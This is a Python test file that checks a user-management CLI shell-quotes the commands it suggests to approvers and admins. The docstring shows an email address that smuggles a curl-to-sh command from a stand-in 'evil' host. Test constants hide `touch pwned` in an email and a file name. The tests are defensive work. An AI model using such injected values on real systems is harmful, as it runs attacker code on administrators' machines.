"""A suggested command (`userctl approve PLAN`, `userctl notifications resend EMAIL`, ...) is
quoted for the shell it will be pasted into: an email's local part may hold backticks, `$` and
braces, and a saved plan's name anything, and the comment or message that suggests the command
is read by the person with the rights (an approver, an admin). Unquoted, a user declared as
x`curl${IFS}evil|sh`y@acme.co in a pull request ran that command on the admin's machine."""

from __future__ import annotations

import re
import shlex
import subprocess
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from tests.core.test_render_trust import code_span_content, privilege_plan
from userctl.hygiene import Invitation, _stale_message
from userctl.printable import is_hidden, shell_command
from userctl.render.markdown import render as render_markdown

EVIL_EMAIL = "x`touch${IFS}pwned`y@acme.co"
EVIL_PATH = "plan$(touch pwned).json"


def pasted(command: str, cwd: Path) -> list[str]:
    """The words a POSIX shell passes to `userctl` when `command` is pasted into it."""
    shown = subprocess.run(
        ["sh", "-c", 'userctl() { printf "%s\\n" "$@"; }\n' + command],
        cwd=cwd,
        capture_output=True,
        text=True,
        check=True,
    )
    return shown.stdout.splitlines()


def test_plain_words_are_left_as_they_are() -> None:
    assert shell_command("userctl", "approve", "plan.json") == "userctl approve plan.json"
    assert shell_command("userctl", "mfa", "enroll", "ana.perez@acme.co") == (
        "userctl mfa enroll ana.perez@acme.co"
    )


@given(st.lists(st.text(min_size=1).filter(lambda w: not any(map(is_hidden, w))), min_size=1))
def test_a_shell_reads_back_each_word(words: list[str]) -> None:
    assert shlex.split(shell_command(*words)) == words


def test_the_stale_invitation_command_runs_nothing_when_pasted(tmp_path: Path) -> None:
    import datetime as dt

    message = _stale_message(Invitation(EVIL_EMAIL, dt.datetime(2026, 1, 1)))
    command = re.search(r"`(userctl notifications resend .*)`, or remove", message)
    assert command is not None, message
    assert pasted(command.group(1), tmp_path) == ["notifications", "resend", EVIL_EMAIL]
    assert not (tmp_path / "pwned").exists()


def test_the_approve_command_in_a_pr_comment_runs_nothing_when_pasted(tmp_path: Path) -> None:
    md = render_markdown(privilege_plan().to_data(), saved_as=EVIL_PATH)
    line = next(line for line in md.splitlines() if line.startswith("**2FA:**"))
    span = line[line.index("approve this exact plan first with ") + 35 : -1]
    assert pasted(code_span_content(span), tmp_path) == [
        "approve",
        EVIL_PATH,
        "--operator",
        "EMAIL",
        "--otp-code",
        "CODE",
    ]
    assert not (tmp_path / "pwned").exists()


SRC = Path(__file__).resolve().parents[2] / "src" / "userctl"


def test_every_suggested_command_with_a_value_is_built_by_shell_command() -> None:
    """A message that writes `userctl ...` with a value in it (an f-string field of a variable
    inside the backticks; a module CONSTANT is no value) quotes it through shell_command, never
    by hand."""
    found = [
        f"{path.relative_to(SRC)}:{number}: {line.strip()}"
        for path in sorted(SRC.rglob("*.py"))
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if re.search(r"`userctl [^`]*\{[a-z_]", line)
    ]
    assert found == []
